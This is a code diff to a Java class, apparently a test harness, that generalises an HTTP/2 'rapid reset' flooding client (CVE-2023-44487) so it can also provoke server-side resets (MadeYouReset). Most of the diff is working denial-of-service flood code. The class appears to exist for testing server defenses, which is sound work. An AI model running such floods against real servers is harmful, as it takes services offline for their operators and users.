@@ -17,7 +17,6 @@ import io.netty.handler.codec.http2.DefaultHttp2FrameReader;
 import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
 import io.netty.handler.codec.http2.DefaultHttp2Headers;
 import io.netty.handler.codec.http2.Http2CodecUtil;
-import io.netty.handler.codec.http2.Http2Error;
 import io.netty.handler.codec.http2.Http2FrameAdapter;
 import io.netty.handler.codec.http2.Http2FrameReader;
 import io.netty.handler.codec.http2.Http2FrameWriter;
@@ -35,30 +34,33 @@ import java.util.concurrent.atomic.AtomicLong;
 import org.jspecify.annotations.Nullable;
 
 /**
- * A hostile HTTP/2 client (CVE-2023-44487, "rapid reset"): on one connection it opens a gRPC call and resets it
- * at once, as fast as the socket takes the frames, until the server closes the connection; then it connects
- * again. It speaks raw frames, so no client-side safety net slows it down.
+ * A hostile HTTP/2 client that makes the server spend work on streams that end in a reset, as fast as the socket
+ * takes the frames, until the server closes the connection; then it connects again. Which side resets is the
+ * {@link ResetFlood}: the client itself (rapid reset) or the server, provoked by a broken frame (MadeYouReset).
+ * It speaks raw frames, so no client-side safety net slows it down.
  */
-final class RapidResetAttacker implements AutoCloseable {
+final class ResetFloodAttacker implements AutoCloseable {
 
     /** Starts every line the attacker's process reports on standard output. */
-    static final String REPORT_PREFIX = "rapid-reset-attacker: ";
+    static final String REPORT_PREFIX = "reset-flood-attacker: ";
 
-    /** HEADERS + RST_STREAM pairs written per flush. */
-    private static final int PAIRS_PER_BATCH = 64;
+    /** Streams opened and reset per flush. */
+    private static final int STREAMS_PER_BATCH = 64;
 
     private final InetSocketAddress server;
+    private final ResetFlood flood;
     private final EventLoopGroup group = new MultiThreadIoEventLoopGroup(1, NioIoHandler.newFactory());
     private final Http2Headers headers;
-    private final AtomicLong resetsSent = new AtomicLong();
+    private final AtomicLong streamsReset = new AtomicLong();
     private final AtomicLong connections = new AtomicLong();
     private final AtomicLong connectionsClosed = new AtomicLong();
     private volatile boolean running;
     private @Nullable Thread attackThread;
     private volatile CountDownLatch firstFrames = new CountDownLatch(0);
 
-    RapidResetAttacker(InetSocketAddress server) {
+    ResetFloodAttacker(InetSocketAddress server, ResetFlood flood) {
         this.server = server;
+        this.flood = flood;
         this.headers = new DefaultHttp2Headers()
                 .method("POST")
                 .scheme("http")
@@ -87,12 +89,13 @@ final class RapidResetAttacker implements AutoCloseable {
      * {@code connections closed resets}, the totals so far. It prints {@code ready} first. Each of these lines
      * starts with {@link #REPORT_PREFIX}, apart from whatever logging shares standard output.
      *
-     * <p>Arguments: the server's host and port.
+     * <p>Arguments: the server's host and port, and the {@link ResetFlood} to send.
      */
     public static void main(String[] args) throws Exception {
         InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
+        ResetFlood flood = ResetFlood.valueOf(args[2]);
         BufferedReader commands = new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
-        try (RapidResetAttacker attacker = new RapidResetAttacker(target)) {
+        try (ResetFloodAttacker attacker = new ResetFloodAttacker(target, flood)) {
             System.out.println(REPORT_PREFIX + "ready");
             for (String command = commands.readLine(); command != null; command = commands.readLine()) {
                 if (command.equals("start")) {
@@ -101,7 +104,7 @@ final class RapidResetAttacker implements AutoCloseable {
                 } else if (command.equals("stop")) {
                     attacker.stopAttacking();
                     System.out.println(REPORT_PREFIX + attacker.connections() + " " + attacker.connectionsClosed() + " "
-                            + attacker.resetsSent());
+                            + attacker.streamsReset());
                 } else {
                     throw new IllegalArgumentException("command: " + command + " (expected: start or stop)");
                 }
@@ -127,7 +130,7 @@ final class RapidResetAttacker implements AutoCloseable {
                         }
                     }
                 },
-                "rapid-reset-attacker");
+                "reset-flood-attacker");
         thread.start();
         attackThread = thread;
         flooding.await();
@@ -142,8 +145,8 @@ final class RapidResetAttacker implements AutoCloseable {
         }
     }
 
-    long resetsSent() {
-        return resetsSent.get();
+    long streamsReset() {
+        return streamsReset.get();
     }
 
     long connections() {
@@ -178,11 +181,12 @@ final class RapidResetAttacker implements AutoCloseable {
     }
 
     /**
-     * How one attacked connection ended: how many resets it sent before the server closed it. The server's GOAWAY
-     * usually does not reach this client: the server closes with the flood still unread in its socket, so its
-     * kernel answers with a TCP reset that discards what this side had not read yet.
+     * How one attacked connection ended: how many streams it had reset (or provoked the server to reset) before
+     * the server closed it, and how many RST_STREAM frames of the server it read. The server's last frames often
+     * do not reach this client: the server closes with the flood still unread in its socket, so its kernel
+     * answers with a TCP reset that discards what this side had not read yet.
      */
-    record Outcome(long resetsSent) {}
+    record Outcome(long streamsReset, long resetsReceived) {}
 
     /** Floods one connection and reads (and answers) the server's SETTINGS. */
     private final class ConnectionAttack extends ByteToMessageDecoder {
@@ -192,7 +196,8 @@ final class RapidResetAttacker implements AutoCloseable {
         private final Http2FrameReader reader = new DefaultHttp2FrameReader();
         private final Listener listener = new Listener();
         private int nextStreamId = 1;
-        private long resetsOnThisConnection;
+        private long streamsResetOnThisConnection;
+        private long resetsReceivedOnThisConnection;
 
         @Override
         public void channelActive(ChannelHandlerContext ctx) throws Exception {
@@ -214,7 +219,7 @@ final class RapidResetAttacker implements AutoCloseable {
         @Override
         public void channelInactive(ChannelHandlerContext ctx) throws Exception {
             connectionsClosed.incrementAndGet();
-            outcome.complete(new Outcome(resetsOnThisConnection));
+            outcome.complete(new Outcome(streamsResetOnThisConnection, resetsReceivedOnThisConnection));
             super.channelInactive(ctx);
         }
 
@@ -229,19 +234,18 @@ final class RapidResetAttacker implements AutoCloseable {
             reader.readFrame(ctx, in, listener);
         }
 
-        /** Writes HEADERS + RST_STREAM pairs while the socket takes them, then yields to reads. */
+        /** Opens and resets streams while the socket takes the frames, then yields to reads. */
         private void flood(ChannelHandlerContext ctx) {
             Channel channel = ctx.channel();
             if (!channel.isActive() || !channel.isWritable() || nextStreamId < 0) {
                 return;
             }
-            for (int i = 0; i < PAIRS_PER_BATCH; i++) {
+            for (int i = 0; i < STREAMS_PER_BATCH; i++) {
                 int streamId = nextStreamId;
                 nextStreamId += 2;
-                writer.writeHeaders(ctx, streamId, headers, 0, false, ctx.newPromise());
-                writer.writeRstStream(ctx, streamId, Http2Error.CANCEL.code(), ctx.newPromise());
-                resetsOnThisConnection++;
-                resetsSent.incrementAndGet();
+                flood.openAndReset(ctx, writer, streamId, headers);
+                streamsResetOnThisConnection++;
+                streamsReset.incrementAndGet();
             }
             ctx.flush();
             firstFrames.countDown();
@@ -254,6 +258,11 @@ final class RapidResetAttacker implements AutoCloseable {
             public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
                 writer.writeSettingsAck(ctx, ctx.newPromise());
                 ctx.flush();
+            }
+
+            @Override
+            public void onRstStreamRead(ChannelHandlerContext ctx, int streamId, long errorCode) {
+                resetsReceivedOnThisConnection++;
             }
         }
     }
